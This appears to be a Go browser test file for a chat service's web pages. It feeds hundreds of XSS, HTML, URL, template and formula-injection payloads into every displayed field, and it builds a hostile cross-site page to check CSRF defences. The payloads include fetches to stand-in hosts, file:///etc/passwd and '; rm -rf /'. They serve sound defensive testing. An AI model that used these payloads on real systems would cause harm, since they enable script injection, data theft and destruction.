package program

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"

	"latchkey/adapters/adaptertest/browsertest"
	"latchkey/adapters/web"
	"latchkey/bot"
	"latchkey/cmd/latchkey/config"
	"latchkey/cmd/latchkey/programtest"
	"latchkey/store"
)

// scripts are texts that would do something if a page took them for more than
// text. @ stands for code that a test notices.
var scripts = []string{
	// Elements
	"<script>§</script>", "<ScRiPt>§</sCrIpT>", "<script >§</script >", "<script\n>§</script\n>", "<script/x>§</script>", "<script src=//evil.example/x.js></script>", "<script src=data:,§></script>", "<script type=module>§</script>", "</script><script>§</script>", "<script>§//",
	"<img src=x onerror=§>", "<img src=x onerror='§'>", "<img src=`x`onerror=§>", "<img/src/onerror=§>", "<IMG SRC=\"javascript:§\">", "<img src=http://evil.example/p.gif>", "<img srcset=//evil.example/p.gif>", "<image src=x onerror=§>", "<input autofocus onfocus=§>", "<input type=image src=x onerror=§>", "<button autofocus onfocus=§>x</button>", "<select autofocus onfocus=§>", "<textarea autofocus onfocus=§>", "<keygen autofocus onfocus=§>",
	"<body onload=§>", "<body onpageshow=§>", "<html onmouseover=§>", "<iframe src=javascript:§></iframe>", "<iframe srcdoc='<script>§</script>'></iframe>", "<iframe onload=§></iframe>", "<frameset onload=§>", "<object data=javascript:§></object>", "<object data=//evil.example/x></object>", "<embed src=javascript:§>", "<embed src=//evil.example/x.swf>", "<applet code=x>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:§'>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta http-equiv=Set-Cookie content=latchkey-session=x>",
	"<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example/x>", "<link rel=prefetch href=//evil.example/x>", "<style>*{background:url(//evil.example/x)}</style>", "<style>@import '//evil.example/x.css';</style>", "<style onload=§></style>", "<form action=//evil.example><button>x</button></form>", "<form><button formaction=javascript:§>x</button></form>", "<isindex action=javascript:§ type=submit>", "<details open ontoggle=§>", "<video src=x onerror=§></video>", "<video poster=//evil.example/p.gif></video>", "<audio src=x onerror=§></audio>", "<source src=x onerror=§>", "<track src=x onerror=§>", "<marquee onstart=§>x</marquee>", "<dialog open onclose=§>", "<portal src=//evil.example>", "<template><script>§</script></template>", "<noscript><p title='</noscript><img src=x onerror=§>'>", "<xmp><script>§</script></xmp>", "<plaintext>", "<listing>&lt;script&gt;§&lt;/script&gt;</listing>", "<math><mtext></form><form><mglyph><style></math><img src onerror=§>", "<table background=//evil.example/x>", "<a href=//evil.example ping=//evil.example/ping>x</a>", "<a href=javascript:§>x</a>", "<area href=javascript:§>", "<slot name=x onslotchange=§>", "<custom-element onclick=§>", "<p style=animation-name:x onanimationstart=§>", "<p contenteditable onbeforeinput=§>", "<div onpointerenter=§ style=position:fixed;inset:0>", "<body background=javascript:§>", "<bgsound src=javascript:§>", "<layer src=//evil.example></layer>", "<xml src=javascript:§>", "<?xml version='1.0'?><script>§</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "<![CDATA[<script>§</script>]]>", "<!--<script>§</script>-->", "--><script>§</script><!--", "<!--[if IE]><script>§</script><![endif]-->", "<!><script>§</script>", "<%<script>§</script>%>", "<<script>§//<</script>", "<script<script>§</script>", "<scr<script>ipt>§</scr</script>ipt>", "<scr\u0131pt>§</scr\u0131pt>", "\uff1cscript\uff1e§\uff1c/script\uff1e",
	// SVG and MathML
	"<svg onload=§>", "<svg/onload=§>", "<svg><script>§</script></svg>", "<svg><script href=data:,§ /></svg>", "<svg><a xlink:href=javascript:§><text x=9 y=9>x</text></a></svg>", "<svg><animate onbegin=§ attributeName=x dur=1s>", "<svg><set onbegin=§ attributeName=x>", "<svg><use href='data:image/svg+xml,<svg id=x onload=§ />#x'/></svg>", "<svg><image href=//evil.example/x.png /></svg>", "<svg><foreignObject><iframe srcdoc='<script>§</script>'></iframe></foreignObject></svg>", "<svg><style><img src=x onerror=§></style></svg>", "<svg><title><script>§</script></title></svg>", "<svg><desc><img src=x onerror=§></desc></svg>", "<math href=javascript:§>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:§>x</maction></math>", "<math><annotation-xml encoding='text/html'><img src=x onerror=§></annotation-xml></math>", "</svg><img src=x onerror=§>", "</math></style><img src=x onerror=§>",
	// Out of an attribute, a text field, a script
	"\"><script>§</script>", "'><script>§</script>", "\"><img src=x onerror=§>", "' onmouseover='§", "\" onmouseover=\"§", "\" autofocus onfocus=§ x=\"", "' autofocus onfocus=§ x='", "` onmouseover=`§", "x onmouseover=§", "x/onmouseover=§//", "\"/onmouseover=§//", "\" style=\"animation:x\" onanimationstart=\"§", "\" formaction=\"javascript:§", "\" srcdoc=\"<script>§</script>", "\" accesskey=\"x\" onclick=\"§", "\"\t\nonmouseover\n=\n§ ", "\\\" onmouseover=§ //", "</title><script>§</script>", "</textarea><script>§</script>", "</style><script>§</script>", "</noscript><script>§</script>", "</option></select><script>§</script>", "</p></article></section></main><script>§</script>", "]]><script>§</script>", "\";§;//", "';§;//", "\\';§;//", "`;§;//", "${§}", "`${§}`", "\u2028§\u2028//", "*/§/*", "-§-", "'-§-'", "\"+§+\"", "</script><img src=x onerror=§>", "\\u003cscript\\u003e§\\u003c/script\\u003e", "\\x3cscript\\x3e§\\x3c/script\\x3e", "&quot;&gt;&lt;script&gt;§&lt;/script&gt;", "&#34;&#62;&#60;script&#62;§&#60;/script&#62;", "&#x3c;script&#x3e;§&#x3c;/script&#x3e;", "&lt;script&gt;§&lt;/script&gt;", "&amp;lt;script&amp;gt;§", "%3Cscript%3E§%3C/script%3E", "%253Cscript%253E§", "+ADw-script+AD4-§+ADw-/script+AD4-", "\u00bcscript\u00be§\u00bc/script\u00be",
	// Addresses
	"javascript:§", "JaVaScRiPt:§", " javascript:§", "java\tscript:§", "java\nscript:§", "javascript&colon;§", "javascript&#58;§", "javascript://x%0a§", "javascript://https://help.example/%0a§", "jav&#x09;ascript:§", "data:text/html,<script>§</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=§>", "vbscript:msgbox(1)", "blob:http://evil.example/x", "file:///etc/passwd", "view-source:javascript:§", "filesystem:http://evil.example/x", "about:blank#<script>§</script>", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "https://evil.example\"onclick=\"§", "https://evil.example'onclick='§", "https://evil.example/<script>§</script>", "https://evil.example/?a=\"><script>§</script>", "https://user:pass@evil.example/", "https://help.riverbend.example@evil.example/", "https://evil.example/\u202egpj.exe", "http://[::1]:80/\"onclick=§", "https://xn--80ak6aa92e.example/", "https://\u0430pple.example/", "otpauth://totp/\"><script>§</script>", "mailto:x@evil.example?subject=\"><script>§</script>", "tel:+1\" onclick=\"§", "ms-msdt:/id PCWDiagnostic", "intent://evil#Intent;end",
	// Markdown and chat syntax
	"[x](javascript:§)", "[x](https://evil.example \"onclick=§\")", "![x](https://evil.example/p.gif)", "![x](x \"onerror=§\")", "[x]: javascript:§", "<javascript:§>", "**<b onclick=§>x</b>**", "```html\n<script>§</script>\n```", "`<script>§</script>`", "> <script>§</script>", "<!channel> <!here> <@U1>", "@everyone @here <@&1>", "<at>everyone</at>", "[x](http://e)", "{\"type\":\"AdaptiveCard\",\"body\":[{\"text\":\"§\"}]}", "=HYPERLINK(\"https://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
	// Template syntax
	"{{.}}", "{{.Data}}", "{{printf \"%s\" .}}", "{{template \"base\" .}}", "{{define \"chat_row\"}}<script>§</script>{{end}}", "{{end}}<script>§</script>", "{{/*", "*/}}", "{name}", "{org}", "{help_phone}", "{", "}", "{{constructor.constructor('§')()}}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[${7*7}]]", "{% import os %}", "ng-app ng-csp><p ng-click=§>", "v-html=§", "<x :is=script>§</x>", "<div x-data x-init=§>", "<div hx-get=//evil.example hx-trigger=load>", "#ZgotmplZ", "__proto__", "constructor", "toString", "%s%s%s%n%n", "$(id)", "`id`", "; rm -rf /",
	// Of characters
	"<\u0000script>§</script>", "<scr\u0000ipt>§</script>", "\u0000<script>§</script>", "<img src=x one\u0000rror=§>", "\u202e<script>§</script>\u202c", "\u2066<script>§</script>\u2069", "\u202dmoc.live", "a\u0300\u0301\u0302\u0303\u0304<script>§</script>", "\u200b<script>§</script>", "<\u200bscript>§</script>", "<script\u3000>§</script>", "<script\u00a0src=//evil.example/x.js>", "\ufeff<script>§</script>", "\ufe64script\ufe65§", "\u2039script\u203a§", "<img src=x onerror\u000b=§>", "<img\u000csrc=x\u000conerror=§>", "<a href=\"\u0001javascript:§\">x</a>", "<a href=\"\u00a0javascript:§\">x</a>", "\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007", "\r\n\r\n<script>§</script>", "\U0001f98a<script>§</script>", "\U000e0001<script>§</script>", "\ufffd<script>§</script>", "\u0130mg <img src=x onerror=§>", "<\u212aeygen autofocus onfocus=§>",
}

// handlers are attributes that run code by themselves or at the slightest touch.
var handlers = strings.Fields("onabort onafterscriptexecute onanimationend onauxclick onbeforematch onbeforetoggle oncanplay oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange ondblclick ondrag ondrop onerror onfocusin onformdata onfullscreenchange ongotpointercapture oninput oninvalid onkeydown onload onmessage onmousemove onpaste onpointermove onpopstate onreset onresize onscroll onscrollend onsearch onselectstart onslotchange onsubmit ontouchstart ontransitionend onunhandledrejection onwheel")

// payloads are the texts, each with code of its own.
func payloads(t testing.TB) (list []string) {
	t.Helper()
	all := slices.Clone(scripts)
	for i, h := range handlers {
		all = append(all, fmt.Sprintf([]string{"<p tabindex=1 %s=§>x</p>", "\"%s=\"§", "' %s='§", "<svg %s=§>"}[i%4], h))
	}
	for i, s := range all {
		code := fmt.Sprintf([]string{"alert(%d)", "xss(%d)", "document.documentElement.dataset.xss=%d", "fetch('//evil.example/%d')"}[i%4], i)
		if p := strings.ReplaceAll(s, "§", code); !slices.Contains(list, p) {
			list = append(list, p)
		}
	}
	if len(list) < 300 {
		t.Fatalf("%d payloads, 300 are promised", len(list))
	}
	return list
}

// TestWebScripts puts texts that would be scripts into every place that shows a
// text of somebody else, and looks at it in a real browser: nothing runs, nothing
// is loaded from elsewhere, not even the content policy has anything to stop, and
// each text stands there as text.
func TestWebScripts(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a browser; run without -short")
	}
	list := payloads(t)
	t.Logf("%d payloads", len(list))
	b := browsertest.Start(t)
	t.Run("demo", func(t *testing.T) {
		p := demoPremises(t, func(c *config.Config) {
			c.Org.Name, c.Org.BotName, c.Org.HelpPhone, c.Org.HelpHours = list[0]+list[70], list[10]+list[86], list[17], list[120]
			c.Org.HelpEmail = "help@riverbend.example\"><script>alert(1)</script>"
		})
		x := &exhibition{p, b, list}
		for _, place := range []struct {
			name string
			show func(*testing.T)
		}{
			{"organisation", x.organisation}, {"messages", x.messages}, {"buttons and forms", x.forms}, {"phone", x.onPhone}, {"typed", x.typed}, {"people", x.people},
			{"session", x.called}, {"one-time pages", x.oncePages}, {"problems", x.problems}, {"another site", x.anotherSite},
		} {
			t.Run(place.name, func(t *testing.T) {
				x.T = t
				place.show(t)
			})
			x.T = t
		}
	})
	t.Run("sign-in", func(t *testing.T) {
		x := &exhibition{servePremisesAt(t, ""), b, list}
		x.callbacks(t)
	})
}

// An exhibition is a program in which payloads are shown.
type exhibition struct {
	*premises
	b    *browsertest.Browser
	list []string
}

// shown is what a page makes of a text: without control characters, without
// what overrides the direction of writing, and without what has no width. Blanks
// do not count: a text is broken
// into lines and paragraphs.
func shown(s string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsControl(r) || unicode.IsSpace(r) || unicode.Is(unicode.Cf, r) || r == unicode.ReplacementChar {
			return -1
		}
		return r
	}, s)
}

// open gives a visitor a browser that stands for somebody: whose cookie it has.
func (x *exhibition) open(t *testing.T, cookies map[string]string, path string) *browsertest.Page {
	t.Helper()
	page := x.b.Open(t, browsertest.Desktop, x.origin+"/private")
	x.wears(page, cookies)
	page.Goto(x.origin + path)
	return page
}

// wears gives a browser that is at one of our pages other cookies.
func (x *exhibition) wears(page *browsertest.Page, cookies map[string]string) {
	for short, value := range cookies {
		c, _ := json.Marshal(x.cookieName(short) + "=" + value + "; path=/")
		page.Eval("document.cookie = "+string(c)+"; 0", nil)
	}
}

// looks fails when a page has become anything but a page of ours: an element or
// an attribute that no page of ours has, an address that runs or leads
// elsewhere, or a script of somebody else's.
func (x *exhibition) looks(t *testing.T, page *browsertest.Page) {
	t.Helper()
	var odd []string
	page.Eval(`(() => {
		const odd = [];
		const ours = new Set('html head meta title link script body header main section article div p span h1 h2 h3 h4 form input button label fieldset legend ol ul li dl dt dd a img svg path circle rect code progress nav noscript details summary time bdi blockquote strong i'.split(' '));
		const mark = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u00ad\u200b\u202a-\u202e\u2060-\u2064\ufeff]/.exec(document.documentElement.textContent);
		if (mark) odd.push('a mark that turns or controls: ' + escape(mark.input.slice(Math.max(0, mark.index - 40), mark.index + 40)));
		if (document.documentElement.dataset.xss) odd.push('a script ran: ' + document.documentElement.dataset.xss);
		for (const e of document.querySelectorAll('*')) {
			if (!ours.has(e.localName)) odd.push('element ' + e.outerHTML.slice(0, 200));
			for (const a of e.attributes) {
				if (/^on|^srcdoc$|^formaction$|^style$|^ping$|^background$|^xlink|[^a-z0-9A-Z-]/.test(a.name)) odd.push('attribute ' + a.name + ' of ' + e.outerHTML.slice(0, 200));
				if (!/^(href|src|action|srcset|poster|data)$/.test(a.name)) continue;
				let u;
				try { u = new URL(a.value, location.href); } catch { continue; } // leads nowhere
				const text = e.localName === 'a' && e.target === '_blank' && /noopener/.test(e.rel) && /^https?:$/.test(u.protocol) && !u.username && !u.password;
				if (a.value === '#ZgotmplZ' || text || u.protocol === 'mailto:' && e.closest('main.card')) continue;
				if (e.closest('.choices') && /^(https?|mailto):$/.test(u.protocol) && /noopener/.test(e.rel)) continue; // the script's own links
				if (u.origin !== location.origin) odd.push(a.name + ' ' + a.value.slice(0, 100) + ' of ' + e.localName);
			}
		}
		return odd;
	})()`, &odd)
	for _, o := range odd {
		t.Errorf("%s: %s", page.Address(), o)
	}
}

// reads fails for each text that cannot be read in the parts of a page.
func (x *exhibition) reads(t *testing.T, page *browsertest.Page, selector string, texts []string) {
	t.Helper()
	var parts []string
	q, _ := json.Marshal(selector)
	page.Eval(`[...document.querySelectorAll(`+string(q)+`)].map(e => e.localName === 'input' || e.localName === 'button' && e.value && !e.textContent ? e.value : e.textContent)`, &parts)
	for i := range parts {
		parts[i] = shown(parts[i])
	}
	all := strings.Join(parts, "\n")
	n := 0
	for _, text := range texts {
		if !strings.Contains(all, shown(text)) {
			if n++; n <= 5 {
				t.Errorf("%q is not there as text in %s", text, selector)
			}
		}
	}
	if n > 5 {
		t.Errorf("and %d more", n-5)
	}
}

// say puts messages into a conversation, as the services do.
func (x *exhibition) say(t *testing.T, conv bot.ConversationID, list ...bot.Message) {
	t.Helper()
	err := x.DB.Update(t.Context(), func(tx bot.Tx) error {
		c, err := tx.Conversation(conv)
		if err != nil {
			return err
		}
		for _, m := range list {
			c.OutSeq++
			if err := tx.Say(&bot.OutboxRow{Conversation: conv, Seq: c.OutSeq, Message: m, Keep: true}); err != nil {
				return err
			}
			if err := tx.MarkOutbox(&bot.OutboxRow{Conversation: conv, Seq: c.OutSeq, State: bot.OutboxSent, Attempts: 1}); err != nil {
				return err
			}
		}
		return tx.SaveConversation(c)
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := x.pages().Send(t.Context(), bot.Delivery{Conversation: conv}); err != nil {
		t.Fatal(err)
	}
}

// everywhere is a message with a text in each of its fields.
func everywhere(s string) bot.Message {
	return bot.Message{
		Text: s + "\n\nBefore " + s + " after", Progress: s, Ref: s, Heard: s, Lang: s, Prompt: 1000,
		Choices: []bot.Choice{{ID: s, Label: s, Primary: true}, {ID: "x", Label: s, Link: s}},
		Picture: &bot.Picture{Name: s, Alt: s},
	}
}

// messages: in a page, and as they arrive while the page is open.
func (x *exhibition) messages(t *testing.T) {
	g := x.guest().arrives("/chat")
	conv := g.session().Conversation
	page := x.open(t, map[string]string{"session": g.token()}, "/")
	page.May(`status of 404.*/pictures/|/pictures/.*status of 404`) // there is no such picture
	page.Until("the stream to be open", `document.querySelectorAll('article.said').length > 0`)
	half := len(x.list) / 2
	for i, s := range x.list[:half] {
		x.say(t, conv, everywhere(s))
		if i%20 == 19 || i == half-1 {
			page.Until("the messages to arrive", fmt.Sprintf(`document.querySelectorAll('article.said').length >= %d`, i+2))
			x.looks(t, page)
		}
	}
	x.reads(t, page, "article.said .text p", x.list[:half])
	x.reads(t, page, "article.said .mine", x.list[:half])
	var all []bot.Message
	for _, s := range x.list[half:] {
		all = append(all, everywhere(s))
	}
	x.say(t, conv, all...)
	for _, path := range []string{"/chat", "/"} {
		page.Goto(x.origin + path)
		x.looks(t, page)
		last := x.list[max(half, len(x.list)-195):]
		x.reads(t, page, "article.said .text p", last)
		x.reads(t, page, "article.said .mine", last)
		x.reads(t, page, "article.said .step", last)
	}
}

// organisation: its name, its bot's, and whom to call, on every kind of page.
func (x *exhibition) organisation(t *testing.T) {
	var servers []*httptest.Server
	t.Cleanup(func() { // when the page is closed: it may ask for its icon long after it is loaded
		for _, server := range servers {
			server.CloseClientConnections()
			server.Close()
		}
	})
	page := x.open(t, nil, "/private")
	page.May(`status of 404`)
	for part := range slices.Chunk(x.list, 80) {
		s := strings.Join(part, " ")
		cfg := *x.Config
		cfg.Org.Name, cfg.Org.BotName, cfg.Org.HelpPhone, cfg.Org.HelpHours, cfg.Org.HelpEmail = s, s, s, s, "x@riverbend.example"+part[0]
		server := httptest.NewUnstartedServer(nil)
		cfg.HTTP.PublicURL = "http://" + server.Listener.Addr().String()
		p := &Program{Config: &cfg, Log: x.Log, DB: x.DB, Scripts: x.Scripts, passes: x.passes, Verify: x.Verify, Turn: x.Turn, Connections: Connections{device: x.Connections.device, keeps: map[bot.ChannelID]bool{}}}
		if err := ConnectWeb(p); err != nil {
			t.Fatal(err)
		}
		server.Config.Handler = p.Connections.pages[0].handler
		server.Start()
		servers = append(servers, server)
		page.Ours(server.Listener.Addr().String())
		for path, where := range map[string]string{"/private": "main p, .org", "/nowhere": "main p", "/chat?begun=1": ".chat-name, .chat-who p", "/?begun=1": ".chat-name, .chat-who p"} {
			page.Goto(server.URL + path)
			x.looks(t, page)
			x.reads(t, page, where, []string{s})
			x.reads(t, page, "title", []string{s})
		}
	}
}

// forms: every text as a button, a link, a field of a form.
func (x *exhibition) forms(t *testing.T) {
	g := x.guest().arrives("/chat")
	page := x.open(t, map[string]string{"session": g.token()}, "/chat")
	no := 0
	for part := range slices.Chunk(x.list, 100) {
		no++
		m := bot.Message{Text: fmt.Sprintf("Part %d?", no), Prompt: 1000, Form: &bot.Form{Name: part[0], Title: strings.Join(part, " "), Button: part[1]}}
		for _, s := range part {
			m.Choices = append(m.Choices, bot.Choice{ID: s, Label: s}, bot.Choice{ID: s, Label: s, Link: s})
			m.Form.Fields = append(m.Form.Fields, bot.Field{Name: s, Label: s, Mask: len(s)%2 == 0})
		}
		x.say(t, g.session().Conversation, m)
		page.Until("the form", fmt.Sprintf(`document.querySelector('.said:last-of-type').textContent.includes('Part %d?') && document.querySelectorAll('.said:last-of-type label').length === %d`, no, len(part)))
		for range 2 { // as it arrived, and in a page
			x.looks(t, page)
			x.reads(t, page, ".choices button", part)
			x.reads(t, page, ".choices a", part)
			x.reads(t, page, ".entry input, .field label", part)
			x.reads(t, page, "legend", []string{strings.Join(part, " ")})
			page.Reload()
		}
	}
}

// onPhone: what arrived on the pretend phone, which shows the newest mails.
func (x *exhibition) onPhone(t *testing.T) {
	g := x.guest().arrives("/chat")
	page := x.open(t, map[string]string{"session": g.token()}, "/private")
	page.May(`/favicon\.ico`) // of a page that is no page of ours
	n := 0
	arrive := func(list []string) {
		for _, s := range list {
			n++
			if err := x.phone.SendNotice(t.Context(), bot.NoticeMessage{ID: fmt.Sprintf("x%d", n), To: s, Subject: s, Body: s, Lang: s}); err != nil {
				t.Fatal(err)
			}
		}
	}
	look := func(list []string) {
		x.looks(t, page)
		x.reads(t, page, ".item.mail summary", list)
		x.reads(t, page, ".item.mail .letter", list)
	}
	live := x.list[:20]
	for part := range slices.Chunk(x.list[20:], 20) {
		page.Goto(x.origin + "/static/base.css") // the demo would look at each
		arrive(part)
		page.Goto(x.origin + "/")
		look(part)
	}
	page.Until("the stream to be open", `performance.getEntriesByType('resource').some((r) => r.name.includes('/demo/phone'))`)
	arrive(live)
	page.Until("the mails to arrive by themselves", fmt.Sprintf(`document.querySelector('.item.mail[data-id="notice|x%d"]')`, n))
	look(live)
}

// typed: what people type where a user name is asked is kept as they typed it.
func (x *exhibition) typed(t *testing.T) {
	g := x.guest().arrives("/chat")
	g.presses("Start")
	for part := range slices.Chunk(x.list[:90], 30) {
		token, err := x.passes.BeginSession(t.Context(), *g.session()) // a browser has a limit
		if err != nil {
			t.Fatal(err)
		}
		g.jar[x.cookieName("session")] = string(token)
		for _, s := range part {
			g.get("/chat")
			g.says(s)
		}
	}
	page := x.open(t, map[string]string{"session": g.token()}, "/chat")
	x.looks(t, page)
	// And by hand, with the echo that the script makes.
	for _, s := range []string{"<img src=x onerror=alert(1)>", "\"><script>alert(1)</script>", "javascript:alert(1)"} {
		page.Eval(`document.querySelector('#say').focus()`, nil)
		page.Type(s + "\r")
		x.looks(t, page)
		page.Until("an answer", `!document.querySelector('.pending *')`)
	}
	x.looks(t, page)
}

// people: names of the directory, as the bot greets them.
func (x *exhibition) people(t *testing.T) {
	var people []bot.Person
	for i := 0; i < len(x.list); i += 50 {
		people = append(people, bot.Person{ID: bot.PersonID(fmt.Sprintf("p%d", i)), Username: fmt.Sprintf("person%d", i), Email: fmt.Sprintf("p%d@riverbend.example", i), Name: x.list[i], GivenName: x.list[i]})
	}
	rep, err := x.DB.ImportPeople(t.Context(), func(yield func(bot.Person, int) bool) {
		for i, p := range people {
			if !yield(p, i+1) {
				return
			}
		}
	}, store.ImportOptions{})
	if err != nil || !rep.Stored {
		t.Fatal(err, rep.Problems)
	}
	page := x.open(t, nil, "/private")
	for _, who := range people {
		g := x.guest().arrives("/chat")
		g.presses("Start")
		g.says(who.Username)
		g.submit("/chat/form", "Sign in", "f.password", "open-sesame-2468")
		x.wears(page, map[string]string{"session": g.token()})
		page.Goto(x.origin + "/chat")
		x.looks(t, page)
		x.reads(t, page, "article.said .text p", []string{who.GivenName})
	}
}

// called: how somebody who is signed in is called.
func (x *exhibition) called(t *testing.T) {
	g := x.guest().arrives("/chat")
	page := x.open(t, nil, "/private")
	for part := range slices.Chunk(x.list, 60) {
		s := *g.session()
		s.Name = strings.Join(part, " ")
		token, err := x.passes.BeginSession(t.Context(), s)
		if err != nil {
			t.Fatal(err)
		}
		x.wears(page, map[string]string{"session": string(token)})
		page.Goto(x.origin + "/chat")
		x.looks(t, page)
		x.reads(t, page, ".chat-who p", []string{s.Name})
	}
}

// oncePages: the account that asked, the bot's words and the form of a page.
func (x *exhibition) oncePages(t *testing.T) {
	g := x.guest().arrives("/chat")
	kinds := []func(f *bot.Form){func(*bot.Form) {}, func(f *bot.Form) { f.Reveals = true }, func(f *bot.Form) { f.SignIn, f.Fields = true, nil }}
	n := 0
	page := x.open(t, nil, "/private")
	page.May(`/favicon\.ico`) // of a page that is no page of ours
	for part := range slices.Chunk(x.list, 52) {
		s := strings.Join(part, " ")
		f := &bot.Form{Name: part[0], Title: s, Button: s}
		for _, text := range part {
			f.Fields = append(f.Fields, bot.Field{Name: text, Label: text, Mask: true})
		}
		kind := n % len(kinds)
		kinds[kind](f)
		n++
		link, _, err := x.passes.NewLink(t.Context(), bot.Page{Conversation: g.session().Conversation, Channel: bot.ChannelID("slack-" + shown(part[1])), User: s, Message: bot.Message{Text: s + "\n" + s, Form: f, Lang: part[2]}})
		if err != nil {
			t.Fatal(err)
		}
		page.Goto(x.origin + "/static/base.css") // a link in an open page is another case
		page.Goto(string(web.LinkAddress(x.origin, link)))
		x.looks(t, page)
		page.Do(`document.querySelector('form[data-open] button').click()`)
		page.Until("the page to open", `document.querySelector('main[data-step=open]')`)
		x.looks(t, page)
		x.reads(t, page, "main > p, .asker dd", []string{s})
		if kind == 0 {
			x.reads(t, page, "label", part)
			x.reads(t, page, "h1", []string{s})
		}
	}
}

// problems: what stands in an address, and in what a browser says about itself.
func (x *exhibition) problems(t *testing.T) {
	page := x.open(t, nil, "/private")
	page.May(`status of 40[0-9]`)
	own := x.Config.Org.Name + x.Config.Org.BotName + x.Config.Org.HelpPhone + x.Config.Org.HelpHours + x.Config.Org.HelpEmail
	for part := range slices.Chunk(x.list, 40) {
		s := strings.Join(part, " ")
		v := url.Values{"lang": {s}, "next": {s}, "begun": {s}, "told": {s}, "x": part}
		for _, path := range []string{"/nowhere/" + url.PathEscape(part[0]), "/chat", "/"} {
			page.Goto(x.origin + path + "?" + v.Encode())
			x.looks(t, page)
			if path == "/" {
				continue // the phone shows many of them
			}
			var text string
			page.Eval("document.documentElement.outerHTML + document.documentElement.textContent", &text)
			for _, p := range part {
				if len(p) > 12 && strings.Contains(text, p) && !strings.Contains(own, p) {
					t.Errorf("%q comes back", p)
				}
			}
		}
		page.Eval("document.cookie = 'latchkey-session=; max-age=0; path=/'", nil)
	}
	// A header has no more than one line, and is read byte by byte.
	for _, s := range x.list {
		g := x.guest()
		g.lang = oneLine(s)
		for _, path := range []string{"/nowhere", "/private"} {
			g.get(path)
			if len(programtest.Elements(g.page, func(n *html.Node) bool { return n.Data == "script" && programtest.Attribute(n, "src") == "" })) > 0 {
				t.Errorf("Accept-Language %q brings a script", s)
			}
			if lang := programtest.Attribute(programtest.Elements(g.page, func(n *html.Node) bool { return n.Data == "html" })[0], "lang"); lang != "en" && lang != "es" {
				t.Errorf("Accept-Language %q makes it a page in %q", s, lang)
			}
		}
	}
}

// callbacks: what comes back from the identity provider, or from whoever wrote
// the address.
func (x *exhibition) callbacks(t *testing.T) {
	page := x.open(t, nil, "/private")
	page.May(`status of 4[01][0-9]`)
	for part := range slices.Chunk(x.list, 60) {
		g := x.guest()
		g.get("/chat")
		g.submit("/signin", "")
		short := g.signingIn()
		token, _, _ := strings.Cut(g.cookie(short), ".")
		x.wears(page, map[string]string{short: g.cookie(short)})
		v := url.Values{"state": {stateOf(token)}, "error": {part[0]}, "error_description": {strings.Join(part, " ")}, "error_uri": {part[1]}, "session_state": {part[2]}, "iss": {part[3]}}
		for range 2 { // the second one is spent
			page.Goto(x.origin + "/signin/callback?" + v.Encode())
			x.looks(t, page)
			var text string
			page.Eval("document.documentElement.textContent + document.documentElement.outerHTML", &text)
			for _, p := range part {
				if len(p) > 12 && strings.Contains(text, p) {
					t.Errorf("%q comes back", p)
				}
			}
		}
	}
}

// anotherSite: a page of another site does its worst to a browser that has our
// cookies. Nothing of it is taken.
func (x *exhibition) anotherSite(t *testing.T) {
	g := x.guest().arrives("/chat")
	f := newGallery(x.premises)
	f.at("password", g, "sign_in", "password")
	f.pageOf("password page", g, "password")
	doors := append(acts("password"), doorsOfPages("password page")...)

	page := x.open(t, map[string]string{"session": g.token(), "page": f.stages["password page"].tokens[0] + ".mark"}, "/private")
	var b strings.Builder
	b.WriteString("<!doctype html><title>evil</title>")
	n := 0
	for _, d := range doors {
		if strings.Contains(d.path, "{") || d.program {
			continue
		}
		if d.method != "POST" {
			fmt.Fprintf(&b, "<img src='%s%s'><link rel=prefetch href='%[1]s%[2]s'><iframe src='%[1]s%[2]s'></iframe>", x.origin, d.path)
			continue
		}
		st := &stage{seq: "1", prompt: "1", form: "sign_in", fields: []string{"password"}}
		v := d.fields(st)
		if _, ok := v["csrf"]; ok {
			v.Set("csrf", csrfOf(g.token())) // even if it had guessed it
		}
		if _, ok := v["id"]; ok {
			v.Set("id", programtest.NewID())
		}
		fmt.Fprintf(&b, "<iframe name=f%d></iframe><form method=post action='%s%s' target=f%[1]d>", n, x.origin, d.path)
		for name, values := range v {
			for _, value := range values {
				fmt.Fprintf(&b, "<input type=hidden name='%s' value='%s'>", name, value)
			}
		}
		b.WriteString("</form>")
		n++
	}
	fmt.Fprintf(&b, `<script>
		(async () => {
			const forms = [...document.forms];
			for (const f of forms) f.submit();
			const tries = forms.flatMap((f) => [
				fetch(f.action, {method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams(new FormData(f))}),
				fetch(f.action, {method: 'POST', credentials: 'include', headers: {'X-Latchkey': 'fetch', 'X-CSRF': 'x'}, body: new URLSearchParams(new FormData(f))}),
			]);
			tries.push(fetch('%[1]s/chat', {credentials: 'include'}), fetch('%[1]s/demo/phone', {credentials: 'include'}));
			const answers = await Promise.allSettled(tries);
			const read = answers.filter((a) => a.status === 'fulfilled' && a.value.type !== 'opaque').length;
			const es = new EventSource('%[1]s/chat/events', {withCredentials: true});
			let heard = 0;
			es.onmessage = es.onopen = () => heard++;
			await new Promise((done) => { es.onerror = done; setTimeout(done, 3000); });
			document.body.dataset.done = read + heard;
		})();
	</script>`, x.origin)
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	site := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write([]byte(b.String()))
	})}
	go func() { _ = site.Serve(listener) }()
